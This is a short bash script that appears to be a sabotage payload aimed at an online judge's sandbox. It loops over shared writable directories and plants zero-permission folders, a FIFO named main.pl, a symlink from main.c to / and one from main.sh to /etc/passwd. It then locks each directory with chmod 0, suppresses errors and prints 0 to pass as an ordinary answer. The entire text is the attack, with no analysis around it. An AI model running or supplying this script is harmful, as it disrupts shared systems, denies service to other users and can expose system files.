for folder in /tmp /dev/shm /var/tmp /home /mnt /run; do
    cd "$folder" || continue
    mkdir -p .upsolve-attack/a upsolve-attack && : > .upsolve-attack/a/file
    chmod 0 .upsolve-attack/a .upsolve-attack
    mkfifo main.pl
    ln -s / main.c
    mkdir main
    rm -f main.sh && ln -s /etc/passwd main.sh
    chmod 0 .
done 2> /dev/null
echo 0
